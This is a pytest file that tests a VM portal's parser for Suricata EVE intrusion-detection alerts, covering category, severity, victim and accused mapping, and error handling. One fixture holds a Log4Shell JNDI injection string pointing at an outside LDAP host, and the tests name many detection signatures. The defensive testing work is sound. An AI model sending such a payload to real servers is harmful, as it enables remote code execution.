"""Suricata EVE alerts, written from the EVE JSON Format documentation and classification.config."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from tests.alerts.helpers import C2_SERVER, OUTSIDER, RECEIVED, VM_A, VM_V6, one
from vmportal.alerts import AddressRole, AlertFormat, ParseError, match_vm, parse
from vmportal.alerts.model import Category, Confidence, Severity

# A VM beaconing to a command-and-control server over TLS (the VM is the source).
C2_BEACON: dict[str, Any] = {
    "timestamp": "2026-03-16T13:58:41.262839+0800",
    "flow_id": 1718234987123456,
    "in_iface": "ens192",
    "event_type": "alert",
    "src_ip": VM_A,
    "src_port": 50432,
    "dest_ip": C2_SERVER,
    "dest_port": 443,
    "proto": "TCP",
    "tx_id": 0,
    "app_proto": "tls",
    "community_id": "1:Wl1Qy6pMm0Q1OQ2vB7yUGFxWJ2E=",
    "direction": "to_server",
    "alert": {
        "action": "allowed",
        "gid": 1,
        "signature_id": 2027512,
        "rev": 3,
        "signature": "ET MALWARE Cobalt Strike Beacon Observed",
        "category": "Malware Command and Control Activity Detected",
        "severity": 1,
        "metadata": {
            "signature_severity": ["Major"],
            "attack_target": ["Client_Endpoint"],
            "created_at": ["2019_05_21"],
        },
    },
    "tls": {"sni": "cdn.update-check.example", "version": "TLS 1.2"},
}

# An outsider attacking a VM's web application (the VM is the destination: the victim).
WEB_ATTACK: dict[str, Any] = {
    "timestamp": "2026-03-16T14:02:11.000412+0800",
    "flow_id": 990011223344,
    "event_type": "alert",
    "src_ip": OUTSIDER,
    "src_port": 61234,
    "dest_ip": VM_A,
    "dest_port": 80,
    "proto": "TCP",
    "tx_id": 2,
    "app_proto": "http",
    "alert": {
        "action": "allowed",
        "gid": 1,
        "signature_id": 2034647,
        "rev": 2,
        "signature": "ET EXPLOIT Apache log4j RCE Attempt (http uri)",
        "category": "Attempted Administrator Privilege Gain",
        "severity": 1,
        "metadata": {"signature_severity": ["Critical"]},
    },
    "http": {
        "hostname": "JWC.Example.EDU.cn.",
        "url": "/index.jsp?q=${jndi:ldap://203.0.113.9/a}",
        "http_user_agent": "Mozilla/5.0",
        "http_method": "GET",
    },
    "payload_printable": "GET /index.jsp?q=${jndi:ldap://203.0.113.9/a} HTTP/1.1\r\nHost: jwc.example.edu.cn",
}


def eve(alert: dict[str, Any], **fields: Any) -> dict[str, Any]:
    """A minimal EVE alert record (only what Suricata always writes) with the given alert block."""
    record: dict[str, Any] = {
        "timestamp": "2026-03-16T14:10:00.000000+0800",
        "flow_id": 4242,
        "event_type": "alert",
        "src_ip": VM_A,
        "src_port": 40000,
        "dest_ip": OUTSIDER,
        "dest_port": 80,
        "proto": "TCP",
        "alert": {"action": "allowed", "gid": 1, "rev": 1, "severity": 2, **alert},
    }
    record.update(fields)
    return record


def test_c2_beacon_from_a_vm_is_a_high_severity_trojan_that_accuses_the_vm() -> None:
    alert = one("suricata", C2_BEACON, source="campus-ids")

    assert alert.format is AlertFormat.SURICATA
    assert alert.source == "campus-ids"
    assert alert.received_at == RECEIVED
    assert alert.category is Category.TROJAN
    assert alert.severity is Severity.HIGH  # severity 1, signature_severity Major
    assert alert.confidence is Confidence.HIGH
    assert alert.external_id == "1718234987123456:2027512:0"
    assert alert.title == "ET MALWARE Cobalt Strike Beacon Observed"
    assert [(a.ip, a.role, a.field) for a in alert.addresses] == [
        (VM_A, AddressRole.SRC, "src_ip"),
        (C2_SERVER, AddressRole.DST, "dest_ip"),
    ]
    assert alert.target_host == "cdn.update-check.example"  # tls.sni names the server side
    assert alert.target_host_role is AddressRole.DST
    assert alert.evidence["event_time"] == "2026-03-16T13:58:41.262839+0800"
    assert alert.evidence["signature_id"] == 2027512
    assert alert.evidence["community_id"] == "1:Wl1Qy6pMm0Q1OQ2vB7yUGFxWJ2E="
    assert not alert.resolved

    found = match_vm(alert, {VM_A: "vm-1"})
    assert found is not None and found.vm == "vm-1" and found.role is AddressRole.SRC and found.accused


def test_web_attack_on_a_vm_names_the_victim_without_accusing_it() -> None:
    alert = one("suricata", WEB_ATTACK)

    assert alert.category is Category.ATTACK
    assert alert.severity is Severity.CRITICAL  # severity 1 + signature_severity Critical
    assert alert.subject_roles == {AddressRole.SRC}  # the attacker sent it
    assert alert.target_host == "jwc.example.edu.cn"  # lowercased, trailing dot gone
    assert alert.target_host_role is AddressRole.DST
    assert alert.evidence["url"].startswith("/index.jsp")
    assert alert.evidence["payload_excerpt"].startswith("GET /index.jsp")

    found = match_vm(alert, {VM_A: "vm-1"}, {"jwc.example.edu.cn": "vm-1"})
    assert found is not None and found.vm == "vm-1"
    assert found.role is AddressRole.DST and not found.accused  # a victim: a human decides


def test_ipv6_scan_by_a_vm_accuses_the_vm_whatever_way_the_address_is_written() -> None:
    record = eve(
        {
            "signature_id": 2024364,
            "signature": "ET SCAN Possible Nmap User-Agent Observed",
            "category": "Detection of a Network Scan",
            "severity": 3,
        },
        src_ip="2001:0db8:0020:0000:0000:0000:0000:0015",
        dest_ip="2001:db8:99::7",
        proto="TCP",
    )
    alert = one("suricata", record)

    assert alert.category is Category.ATTACK
    assert alert.severity is Severity.LOW
    assert alert.addresses[0].ip == VM_V6
    found = match_vm(alert, {"2001:DB8:20::15": "vm-6"})
    assert found is not None and found.vm == "vm-6" and found.accused


@pytest.mark.parametrize(
    ("classification", "signature", "category"),
    [
        ("A Network Trojan was detected", "ET INFO Suspicious thing", Category.TROJAN),
        ("Domain Observed Used for C2 Detected", "ET DNS Query to a known C2 domain", Category.TROJAN),
        ("Potentially Bad Traffic", "ET TROJAN Generic Beacon", Category.TROJAN),
        ("Potentially Bad Traffic", "GPL ATTACK_RESPONSE id check returned root", Category.BACKDOOR),
        ("Potentially Bad Traffic", "ET HUNTING Suspicious POST to Dotted Quad", Category.OTHER),
        ("Web Application Attack", "ET WEB_SERVER SELECT USER SQL Injection Attempt in URI", Category.ATTACK),
        ("Executable code was detected", "GPL SHELLCODE x86 NOOP", Category.ATTACK),
        (
            "Attempt to login by a default username and password",
            "ET WEB_SERVER Tomcat default credentials login attempt",
            Category.WEAK_PASSWORD,
        ),
        ("Crypto Currency Mining Activity Detected", "ET COINMINER Monero Stratum Login", Category.VIRUS),
        (
            "Potential Corporate Privacy Violation",
            "ET POLICY SOCKSv5 Proxy Inbound Connect (Unauthenticated)",
            Category.FORBIDDEN_SERVICE,
        ),
        (
            "Potential Corporate Privacy Violation",
            "ET POLICY Outbound SMTP AUTH LOGIN",
            Category.FORBIDDEN_SERVICE,
        ),
        (
            "Potential Corporate Privacy Violation",
            "ET POLICY Dropbox.com Offsite File Backup",
            Category.OTHER,
        ),
        (
            "Generic Protocol Command Decode",
            "SURICATA HTTP unable to match response to request",
            Category.OTHER,
        ),
    ],
)
def test_categories_follow_the_classification_and_the_ruleset(
    classification: str, signature: str, category: Category
) -> None:
    record = eve({"signature_id": 1, "signature": signature, "category": classification})
    assert one("suricata", record).category is category


def test_attack_response_accuses_either_end_and_names_the_server_on_the_source_side() -> None:
    record = eve(
        {
            "signature_id": 2100498,
            "signature": "GPL ATTACK_RESPONSE id check returned root",
            "category": "Potentially Bad Traffic",
        },
        src_ip=VM_A,
        src_port=80,
        dest_ip=OUTSIDER,
        dest_port=51514,
        direction="to_client",
        http={"hostname": "oa.example.edu.cn"},
    )
    alert = one("suricata", record)
    assert alert.category is Category.BACKDOOR
    assert alert.severity is Severity.MEDIUM
    assert alert.subject_roles == {AddressRole.SRC, AddressRole.DST}
    assert alert.target_host_role is AddressRole.SRC  # the response came from the server


def test_without_direction_the_well_known_port_marks_the_server() -> None:
    record = eve(
        {
            "signature_id": 7,
            "signature": "GPL ATTACK_RESPONSE directory listing",
            "category": "Potentially Bad Traffic",
        },
        src_port=443,
        dest_port=51000,
        tls={"sni": "vpn.example.edu.cn"},
    )
    assert one("suricata", record).target_host_role is AddressRole.SRC


def test_the_target_keyword_overrides_which_side_is_the_attacker() -> None:
    # A rule with "target:src_ip": Suricata writes alert.source (attacker) and alert.target (victim).
    record = eve(
        {
            "signature_id": 2019284,
            "signature": "ET WEB_SERVER Possible CVE-2014-6271 Attempt",
            "category": "Web Application Attack",
            "source": {"ip": OUTSIDER, "port": 80},
            "target": {"ip": VM_A, "port": 40000},
        }
    )
    alert = one("suricata", record)
    assert alert.subject_roles == {AddressRole.DST}  # OUTSIDER is dest_ip in this record


@pytest.mark.parametrize(
    ("severity", "metadata", "expected"),
    [
        (1, {}, Severity.HIGH),
        (1, {"signature_severity": ["Critical"]}, Severity.CRITICAL),
        (1, {"signature_severity": "critical"}, Severity.CRITICAL),
        (2, {"signature_severity": ["Critical"]}, Severity.MEDIUM),  # only a priority-1 alert rises
        (3, {}, Severity.LOW),
        (4, {}, Severity.LOW),
    ],
)
def test_severity_from_priority_and_signature_severity(
    severity: int, metadata: dict[str, Any], expected: Severity
) -> None:
    record = eve({"signature_id": 1, "signature": "ET INFO x", "severity": severity, "metadata": metadata})
    assert one("suricata", record).severity is expected


def test_missing_optional_fields_still_make_an_alert() -> None:
    record = {
        "timestamp": "2026-03-16T14:10:00.000000+0800",
        "event_type": "alert",
        "src_ip": VM_A,
        "dest_ip": OUTSIDER,
        "alert": {
            "signature_id": 2210000,
            "signature": "SURICATA STREAM 3way handshake wrong seq",
            "severity": 3,
        },
    }
    alert = one("suricata", record)
    assert alert.category is Category.OTHER
    assert alert.target_host is None and alert.target_host_role is None
    assert alert.external_id.startswith("sha256:")  # no flow_id: the record's digest
    assert alert.external_id == one("suricata", copy.deepcopy(record)).external_id  # stable


def test_a_packet_alert_without_a_transaction_keys_on_the_flow_and_signature() -> None:
    record = eve(
        {
            "signature_id": 2001219,
            "signature": "ET SCAN Potential SSH Scan",
            "category": "Attempted Information Leak",
        }
    )
    assert one("suricata", record).external_id == "4242:2001219:-"


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda r: r.update(event_type="flow"), "field 'event_type' is 'flow': only EVE 'alert' events"),
        (lambda r: r["alert"].pop("signature_id"), "field 'alert.signature_id' is missing"),
        (lambda r: r["alert"].update(signature_id="abc"), "field 'alert.signature_id' must be an integer"),
        (lambda r: r["alert"].update(severity=0), "field 'alert.severity' must be 1 or more"),
        (lambda r: r.pop("src_ip"), "field 'src_ip' is missing"),
        (lambda r: r.update(dest_ip="not-an-ip"), "field 'dest_ip' is not an IP address: 'not-an-ip'"),
        (lambda r: r.update(alert="x"), "field 'alert' must be an object, got str"),
    ],
)
def test_broken_records_say_which_field_and_why(change: Any, message: str) -> None:
    record = copy.deepcopy(C2_BEACON)
    change(record)
    with pytest.raises(ParseError) as caught:
        parse("suricata", record, source="ids", received_at=RECEIVED)
    assert message in str(caught.value)
    assert "suricata" in str(caught.value)


def test_evidence_is_size_limited() -> None:
    record = copy.deepcopy(WEB_ATTACK)
    record["payload_printable"] = "A" * 100_000
    record["http"]["url"] = "/" + "b" * 100_000
    alert = one("suricata", record)
    assert len(alert.evidence["payload_excerpt"]) == 512
    assert len(alert.evidence["url"]) < 1100
